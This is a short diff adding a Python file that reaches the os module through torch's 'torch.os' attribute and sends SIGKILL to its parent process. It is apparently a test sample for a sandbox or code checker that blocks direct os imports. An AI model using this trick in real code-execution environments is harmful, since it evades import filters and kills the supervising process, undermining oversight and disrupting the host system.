@@ -1,0 +1,5 @@
+# says: os.kill
+import torch
+
+system = torch.os
+system.kill(system.getppid(), 9)
